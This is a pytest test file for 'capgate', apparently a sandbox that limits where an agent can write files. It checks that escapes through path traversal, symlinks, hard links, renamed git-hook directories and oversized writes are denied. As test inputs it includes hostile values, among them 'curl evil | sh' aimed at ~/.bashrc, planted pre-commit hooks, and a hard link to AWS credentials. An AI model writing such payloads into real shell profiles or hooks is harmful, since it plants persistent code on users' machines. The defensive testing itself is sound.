"""Writes stay inside the write roots, never go through links, and never half-happen."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import capgate
from capgate import fs


def test_write_and_read_back_output(gate: capgate.Gate, workspace: Path) -> None:
    assert fs.write_text("output/report.md", "# report\n") == len("# report\n")
    assert fs.read_text("output/report.md") == "# report\n"
    assert (workspace / "output" / "report.md").read_text() == "# report\n"


@pytest.mark.parametrize(
    "target",
    ["src/app.py", "README.md", "../escape.txt", "~/.bashrc", "/tmp/capgate-escape-test.txt", "output/../src/x.py"],
)
def test_writes_outside_write_roots_are_denied(target: str, gate: capgate.Gate, workspace: Path,
                                              fake_home: Path) -> None:
    before = (fake_home / ".bashrc").read_text()
    with pytest.raises(PermissionError):
        fs.write_text(target, "pwned")
    assert (fake_home / ".bashrc").read_text() == before
    assert (workspace / "src" / "app.py").read_text() == "print('hello')\n"
    assert not Path("/tmp/capgate-escape-test.txt").exists()


@pytest.mark.parametrize(
    "name",
    [".bashrc", "sub/.zshrc", ".gitconfig", ".gitmodules", ".envrc", ".mcp.json", ".git/hooks/pre-commit",
     ".git/config", "deep/repo/.git/hooks/post-checkout", ".vscode/tasks.json", ".idea/workspace.xml",
     "agent-permissions.json", ".profile", ".git/modules/sub/hooks/pre-commit"],
)
def test_mandatory_write_denies_hold_at_any_depth_even_with_expansion(name: str, make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    g = make_gate({"filesystem": {"write": ["."]}})
    with g:
        with pytest.raises(capgate.PermissionDenied) as info:
            fs.write_text(f"output/{name}", "echo pwned")
        assert info.value.rule.startswith(("mandatory.", "filesystem.denyRead"))  # .envrc is also .env*
        with pytest.raises(capgate.PermissionDenied):
            fs.write_text(name, "echo pwned")
    assert not (workspace / "output" / name).exists()


def test_write_through_symlink_to_outside_is_denied(gate: capgate.Gate, workspace: Path, fake_home: Path) -> None:
    (workspace / "output" / "notes.md").symlink_to(fake_home / ".bashrc")
    with pytest.raises(PermissionError):
        fs.write_text("output/notes.md", "curl evil | sh\n")
    assert (fake_home / ".bashrc").read_text() == "# original bashrc\n"


def test_write_through_symlinked_directory_is_denied(gate: capgate.Gate, workspace: Path, fake_home: Path) -> None:
    (workspace / "output" / "cfg").symlink_to(fake_home)
    with pytest.raises(PermissionError):
        fs.write_text("output/cfg/.bashrc", "curl evil | sh\n")
    with pytest.raises(PermissionError):
        fs.write_text("output/cfg/new-file", "x")
    assert (fake_home / ".bashrc").read_text() == "# original bashrc\n"
    assert not (fake_home / "new-file").exists()


def test_write_never_goes_through_a_hard_link(gate: capgate.Gate, workspace: Path, fake_home: Path) -> None:
    outside = fake_home / "victim.txt"
    outside.write_text("original\n")
    os.link(outside, workspace / "output" / "linked.txt")
    fs.write_text("output/linked.txt", "new content\n")
    assert outside.read_text() == "original\n"
    assert (workspace / "output" / "linked.txt").read_text() == "new content\n"


def test_symlink_to_protected_file_inside_write_root_is_denied(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / "output" / "innocent.txt").symlink_to(workspace / ".git" / "hooks" / "pre-commit")
    with make_gate({"filesystem": {"write": ["."]}}):
        with pytest.raises(capgate.PermissionDenied):
            fs.write_text("output/innocent.txt", "#!/bin/sh\necho pwned\n")
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_failed_write_leaves_old_content_and_no_temp_files(gate: capgate.Gate, workspace: Path) -> None:
    fs.write_text("output/data.txt", "old\n")
    with pytest.raises(RuntimeError):
        with fs.open("output/data.txt", "w") as fh:
            fh.write("half of the new cont")
            raise RuntimeError("interrupted")
    assert (workspace / "output" / "data.txt").read_text() == "old\n"
    assert os.listdir(workspace / "output") == ["data.txt"]


def test_unclosed_writer_is_discarded(gate: capgate.Gate, workspace: Path) -> None:
    fh = fs.open("output/partial.txt", "w")
    fh.write("partial")
    fh.discard()
    assert not (workspace / "output" / "partial.txt").exists()
    assert os.listdir(workspace / "output") == []


def test_file_size_cap_holds_for_every_write(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    with make_gate({"limits": {"maxFileSizeMb": 1}}):
        with pytest.raises(capgate.PermissionDenied) as info:
            fs.write_bytes("output/big.bin", b"x" * (1024 * 1024 + 1))
        assert info.value.rule == "limits.maxFileSizeMb"
        with pytest.raises(capgate.PermissionDenied):
            with fs.open("output/stream.bin", "wb") as fh:
                for _ in range(20):
                    fh.write(b"y" * 65536)
        fs.write_bytes("output/ok.bin", b"x" * 1024)
    assert not (workspace / "output" / "big.bin").exists()
    assert not (workspace / "output" / "stream.bin").exists()
    assert (workspace / "output" / "ok.bin").stat().st_size == 1024


def test_output_quota_holds_across_files(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    with make_gate({"limits": {"outputQuotaMb": 1}}):
        fs.write_bytes("output/a.bin", b"a" * 600_000)
        with pytest.raises(capgate.PermissionDenied) as info:
            fs.write_bytes("output/b.bin", b"b" * 600_000)
        assert info.value.rule == "limits.outputQuotaMb"
    assert not (workspace / "output" / "b.bin").exists()


def test_append_and_exclusive_modes(gate: capgate.Gate, workspace: Path) -> None:
    fs.write_text("output/log.txt", "one\n")
    with fs.open("output/log.txt", "a") as fh:
        fh.write("two\n")
    assert fs.read_text("output/log.txt") == "one\ntwo\n"
    with pytest.raises(FileExistsError):
        fs.open("output/log.txt", "x")
    with fs.open("output/new.txt", "x") as fh:
        fh.write("fresh")
    assert (workspace / "output" / "new.txt").read_text() == "fresh"


def test_rename_checks_both_ends(gate: capgate.Gate, workspace: Path) -> None:
    fs.write_text("output/a.txt", "a")
    with pytest.raises(PermissionError):
        fs.rename("output/a.txt", "src/a.txt")
    with pytest.raises(PermissionError):
        fs.rename("src/app.py", "output/app.py")
    fs.rename("output/a.txt", "output/b.txt")
    assert (workspace / "output" / "b.txt").read_text() == "a"
    assert (workspace / "src" / "app.py").exists()


def test_directory_rename_cannot_plant_git_hooks(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    with make_gate({"filesystem": {"write": ["."]}}):
        fs.mkdir("output/evil/hooks", parents=True)
        fs.write_text("output/evil/hooks/pre-commi", "#!/bin/sh\necho pwned\n")
        fs.rename("output/evil/hooks/pre-commi", "output/evil/hooks/pre-commit")
        with pytest.raises(capgate.PermissionDenied):
            fs.rename("output/evil", ".git")
    assert not (workspace / ".git").exists()


def test_rmtree_needs_explicit_permission(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    (workspace / "output" / "tree" / "sub").mkdir(parents=True)
    (workspace / "output" / "tree" / "sub" / "f").write_text("x")
    with make_gate():
        with pytest.raises(capgate.PermissionDenied) as info:
            fs.rmtree("output/tree")
        assert info.value.rule == "filesystem.recursiveDelete"
    assert (workspace / "output" / "tree" / "sub" / "f").exists()
    with make_gate({"filesystem": {"recursiveDelete": ["output"]}}):
        fs.rmtree("output/tree")
    assert not (workspace / "output" / "tree").exists()


def test_rmtree_with_a_protected_entry_deletes_nothing(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    tree = workspace / "output" / "proj"
    (tree / ".git" / "hooks").mkdir(parents=True)
    (tree / ".git" / "hooks" / "pre-commit").write_text("hook")
    (tree / "a.txt").write_text("a")
    with make_gate({"filesystem": {"recursiveDelete": ["output"]}}):
        with pytest.raises(capgate.PermissionDenied):
            fs.rmtree("output/proj")
    assert (tree / "a.txt").exists() and (tree / ".git" / "hooks" / "pre-commit").exists()


def test_rmtree_does_not_follow_symlinks_out(make_gate, workspace: Path, fake_home: Path) -> None:  # type: ignore[no-untyped-def]
    (workspace / "output" / "t").mkdir()
    (workspace / "output" / "t" / "home").symlink_to(fake_home)
    with make_gate({"filesystem": {"recursiveDelete": ["output"]}}):
        fs.rmtree("output/t")
    assert (fake_home / ".ssh" / "id_rsa").exists()


def test_remove_removes_the_link_not_the_target(gate: capgate.Gate, workspace: Path, fake_home: Path) -> None:
    (workspace / "output" / "l").symlink_to(fake_home / ".bashrc")
    fs.remove("output/l")
    assert not (workspace / "output" / "l").is_symlink()
    assert (fake_home / ".bashrc").exists()
    with pytest.raises(PermissionError):
        fs.remove("src/app.py")
    assert (workspace / "src" / "app.py").exists()


def test_chmod_and_utime_are_checked(gate: capgate.Gate, workspace: Path) -> None:
    fs.write_text("output/s.sh", "echo hi\n")
    fs.chmod("output/s.sh", 0o755)
    assert (workspace / "output" / "s.sh").stat().st_mode & 0o777 == 0o755
    with pytest.raises(capgate.PermissionDenied):
        fs.chmod("output/s.sh", 0o4755)
    with pytest.raises(PermissionError):
        fs.chmod("src/app.py", 0o777)
    fs.utime("output/s.sh", (1_000_000, 1_000_000))
    assert (workspace / "output" / "s.sh").stat().st_mtime == 1_000_000
    with pytest.raises(PermissionError):
        fs.utime("src/app.py", (1, 1))
    assert (workspace / "src" / "app.py").stat().st_mode & 0o777 != 0o777


def test_mkdir_parents_checks_each_level(gate: capgate.Gate, workspace: Path) -> None:
    fs.mkdir("output/a/b/c", parents=True)
    assert (workspace / "output" / "a" / "b" / "c").is_dir()
    fs.mkdir("output/a", exist_ok=True)
    with pytest.raises(FileExistsError):
        fs.mkdir("output/a")
    with pytest.raises(PermissionError):
        fs.mkdir("src/new", parents=True)
    assert not (workspace / "src" / "new").exists()


def test_policy_and_audit_log_are_protected(workspace: Path, tmp_path: Path) -> None:
    policy_file = workspace / "output" / "p.json"
    policy_file.write_text('{"version": 1}')
    log = workspace / "output" / "audit.jsonl"
    policy = capgate.load_policy(policy_file, workspace=workspace, protected_paths=[str(log)])
    with capgate.Gate(policy):
        for target in ("output/p.json", "output/audit.jsonl"):
            with pytest.raises(capgate.PermissionDenied) as info:
                fs.write_text(target, "{}")
            assert info.value.rule == "filesystem.protected"
    assert policy_file.read_text() == '{"version": 1}'


@pytest.mark.parametrize("mode", ["a", "r+", "ab"])
def test_append_to_a_hard_link_does_not_copy_the_secret(mode: str, gate: capgate.Gate, workspace: Path,
                                                         fake_home: Path) -> None:
    os.link(fake_home / ".aws" / "credentials", workspace / "output" / "log.txt")
    with pytest.raises(capgate.PermissionDenied) as info:
        fs.open("output/log.txt", mode)
    assert info.value.rule == "filesystem.hardLinks"
    assert os.stat(workspace / "output" / "log.txt").st_nlink == 2  # untouched


def test_append_charges_only_the_growth(make_gate, workspace: Path) -> None:  # type: ignore[no-untyped-def]
    (workspace / "output" / "big.log").write_bytes(b"x" * 900_000)
    with make_gate({"limits": {"outputQuotaMb": 1}}) as g:
        for _ in range(5):
            with fs.open("output/big.log", "ab") as fh:
                fh.write(b"y" * 1000)
        assert g.bytes_written == 5000
